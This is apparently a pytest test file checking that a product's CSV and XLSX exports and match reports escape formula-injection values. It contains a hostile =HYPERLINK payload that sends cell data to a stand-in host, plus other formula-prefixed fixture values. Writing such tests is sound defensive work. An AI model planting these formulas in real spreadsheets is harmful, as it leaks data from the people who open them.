"""Every spreadsheet the product writes is safe to open: no cell runs as a formula."""

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ngen_connect import Engine
from ngen_connect.export import write_results
from ngen_connect.registries import match_file
from ngen_connect.registries.matching import Matcher, Party

HOSTILE = '=HYPERLINK("http://x.example/?d="&A1,"click")'


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_search_export_and_match_report_neutralise_formulas(
    fake_engine: Engine, tmp_path: Path, suffix: str
) -> None:
    members = tmp_path / "m.csv"
    members.write_text(
        f'id,name,description,city\nx1,"{HOSTILE.replace(chr(34), chr(34) * 2)}",'
        "Welding of frames.,@Regina\nx2,+Plus Co,-Minus welding.,Laval\n"
        'x3,"\x01=HYPERLINK(""http://x.example"",""soh"")",Welding with a control character.,\x00=Laval\n',
        encoding="utf-8",
    )
    fake_engine.index_files([members])
    export = tmp_path / f"export{suffix}"
    write_results(export, fake_engine.search("welding"))
    report = tmp_path / f"report{suffix}"
    match_file(members, Matcher([Party("x1", HOSTILE)])).write(report)
    for path in (export, report):
        cells = _cells(path)
        assert "'" + HOSTILE in cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], path.name


def _cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return [cell for row in csv.reader(handle) for cell in row]
    book = load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells
